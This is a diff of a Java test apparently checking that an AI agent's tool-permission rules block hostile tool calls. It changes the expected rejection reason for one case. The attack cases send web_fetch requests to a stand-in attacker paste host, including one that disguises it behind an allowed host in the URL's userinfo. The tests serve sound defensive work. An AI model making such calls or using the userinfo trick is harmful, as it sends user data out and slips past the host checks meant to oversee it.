@@ -107,7 +107,7 @@ class ForeignToolAttackTest {
                 new Attack("web_fetch to a host outside the rule", "assistant", "web_fetch",
                         "{\"url\":\"https://paste.attacker.example/upload\"}", "default"),
                 new Attack("web_fetch with the allowed host as userinfo", "assistant", "web_fetch",
-                        "{\"url\":\"https://docs.example.com@paste.attacker.example/\"}", "default"),
+                        "{\"url\":\"https://docs.example.com@paste.attacker.example/\"}", "host-name"),
                 new Attack("web_fetch without url", "assistant", "web_fetch",
                         "{\"href\":\"https://paste.attacker.example/\"}", "tool-arguments"),
                 new Attack("a tool not offered, under default: allow", "reader", "read_file",
